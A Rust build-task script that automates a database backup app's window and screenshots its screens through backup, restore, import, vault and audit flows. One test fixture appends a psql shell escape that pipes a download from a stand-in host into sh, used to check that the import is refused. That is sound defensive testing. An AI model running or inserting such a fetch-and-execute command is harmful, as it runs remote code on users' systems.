//! `cargo xtask screens FOLDER`: a picture of every screen of the real window, in both themes and two sizes, after the
//! main job was done on real databases.
#![allow(clippy::print_stdout, clippy::unwrap_used)]

#[cfg(not(target_os = "linux"))]
fn main() {
    println!("The pictures are taken on Linux, where the web view can be driven.");
}

#[cfg(target_os = "linux")]
fn main() {
    let folder = std::env::args_os().nth(1).expect("the folder for the pictures");
    linux::photograph_all(std::path::Path::new(&folder));
}

#[cfg(target_os = "linux")]
mod automation;
#[cfg(target_os = "linux")]
mod camera;
#[cfg(target_os = "linux")]
mod fidelity;

#[cfg(target_os = "linux")]
mod linux {
    use std::path::Path;

    use holdfast_tests::postgres::Server;
    use holdfast_tests::sqlite;
    use holdfast_tests::window::Window;
    use serde_json::json;

    use crate::camera::Camera;
    use crate::{automation, fidelity};

    pub fn photograph_all(folder: &Path) {
        if folder.exists() {
            std::fs::remove_dir_all(folder).expect("emptying the folder for the pictures");
        }
        let window = Window::open();
        let mut camera = Camera::new(&window, folder);
        start(&mut camera);
        connect_more(&window);
        work(&mut camera);
        import(&mut camera);
        fidelity::photograph(&mut camera);
        automation::photograph(&mut camera);
        rest(&mut camera);
        strangers(&mut camera);
        println!("{} screens", camera.taken());
    }

    fn start(camera: &mut Camera<'_>) {
        let window = camera.window;
        window.page().test_id("start-create");
        camera.take("welcome");
        window.page().test_id("start-attach").click();
        window.page().test_id("attach-folder");
        camera.take("attach-vault");
        window.page().button("Back").click();
        window.welcome();
        window.type_passphrases();
        camera.take("create-vault");
        window.page().test_id("create-vault").click();
        window.page().test_id("recovery-words");
        camera.take("recovery-kit");
        window.store_recovery_kit();
        window.sample();
        camera.take("first-overview");
    }

    /// A PostgreSQL database, and one whose server is not there.
    fn connect_more(window: &Window) {
        let server = Server::shared();
        server.psql("postgres", "create database warehouse");
        server.run_script("warehouse", include_str!("warehouse.sql"));
        let add = |name: &str, url: &str, environment: &str| {
            let request = json!({"name": name, "url": url, "environment": environment});
            window
                .page()
                .call("connection.add", &request, None)
                .unwrap_or_else(|error| panic!("{name}: {error}"))
        };
        add("warehouse", &server.url("warehouse"), "production");
        add("archive", "postgres://reader@127.0.0.1:1/archive", "staging");
        window.page().find("[data-testid=\"database-nav\"][data-connection=\"archive\"]");
    }

    fn work(camera: &mut Camera<'_>) {
        let window = camera.window;
        let sample = window.sample();
        let (name, file) = (sample["name"].as_str().unwrap().to_owned(), window.sample_file());
        let database = file.file_name().unwrap().to_str().unwrap().to_owned();
        window.open_database("archive");
        window.page().test_id("back-up-now").click();
        window.page().wait_for_text("refused");
        camera.take("unreachable");
        window.open_database("warehouse");
        camera.take("never-backed-up");
        window.back_up();
        camera.take("backed-up");
        window.prove();
        camera.take("proven");

        window.open_database(&name);
        window.back_up();
        window.prove();
        sqlite::run(&file, "DELETE FROM payments");
        window.page().test_id("backup-details").click();
        window.page().wait_for_text("payments");
        camera.take("backup-details");
        window.page().test_id("restore-open").click();
        window.page().test_id("target-replace").click();
        camera.take("restore-target");
        window.page().test_id("restore-plan").click();
        window.page().test_id("restore-start");
        camera.take("restore-plan");
        window.replace(&database);
        camera.take("restored");
        window.ask_undo();
        camera.take("undo-plan");
        window.undo(&database);
        camera.take("undone");
    }

    /// A dump of the warehouse, looked through and imported; and a file with a command that nobody carries out.
    fn import(camera: &mut Camera<'_>) {
        let window = camera.window;
        let file = |name: &str, text: &str| {
            let path = window.outside(name);
            std::fs::write(&path, text).expect("writing the SQL file");
            path.to_str().unwrap().to_owned()
        };
        let dump = Server::shared().pg_dump("warehouse", &[]);
        let hostile = file("handmade.sql", &format!("{dump}\n\\! curl example.org | sh\n"));
        let dump = file("warehouse.sql", &dump);
        window.open_database("warehouse");
        window.page().test_id("tab-restores").click();
        window.page().test_id("import-open").click();
        window.page().test_id("import-file").fill(&hostile);
        window.page().test_id("import-plan").click();
        window.page().test_id("import-report");
        camera.take("import-refused");
        window.page().button("Back").click();
        window.page().test_id("import-file").fill(&dump);
        camera.take("import-target");
        window.page().test_id("import-plan").click();
        window.page().test_id("import-report");
        camera.take("import-plan");
        window.page().test_id("import-start").click();
        window.page().test_id("import-done");
        camera.take("imported");
    }

    fn rest(camera: &mut Camera<'_>) {
        let window = camera.window;
        camera.visit("#/", "warehouse", "overview");
        window.open_database("warehouse");
        window.page().test_id("tab-tables").click();
        camera.take("tables");
        window.page().test_id("tab-settings").click();
        window.page().test_id("connection-test").click();
        window.page().test_id("connection-test-result");
        camera.take("connection-settings");
        window.page().test_id("backup-options-open").click();
        window.page().test_id("backup-start");
        camera.take("backup-options");
        window.page().button("Cancel").click();
        window.open_database(window.sample()["name"].as_str().unwrap());
        window.page().test_id("tab-restores").click();
        camera.take("restores");
        camera.visit("#/connections/new", "URL", "add-connection");
        camera.visit("#/jobs", "Back up", "jobs");
        window.go_to("#/vault");
        window.page().test_id("check-decoded").click();
        window.page().test_id("prune-plan");
        camera.take("vault");
        window.go_to("#/audit");
        window.page().test_id("audit-verify").click();
        window.page().test_id("audit-verdict");
        camera.take("audit");
        camera.visit("#/settings", "Theme", "settings");
        window.page().test_id("find").click();
        window.page().test_id("palette-input").fill("ware");
        camera.take("palette");
        // The Escape key, in WebDriver's alphabet.
        window.page().test_id("palette-input").fill("\u{e00c}");
        window.page().wait_until_gone("[data-testid=\"palette-input\"]");
    }

    /// Backups whose connection is gone, and the vault when nobody has opened it.
    fn strangers(camera: &mut Camera<'_>) {
        let window = camera.window;
        let page = window.page();
        page.call("connection.remove", &json!({"connection": "warehouse"}), None).expect("removed");
        camera.visit("#/", "not connected here", "overview-strays");
        camera.visit("#/vault", "not connected here", "vault-strays");
        page.call("vault.lock", &json!({}), None).expect("locked");
        camera.visit("#/", "The vault is locked. Backups", "overview-locked");
        camera.visit("#/vault", "Open by itself", "vault-locked");
        page.script("location.hash = '#/'; location.reload();", &[]);
        page.wait_for_text("Look around without it");
        camera.take("unlock");
    }
}
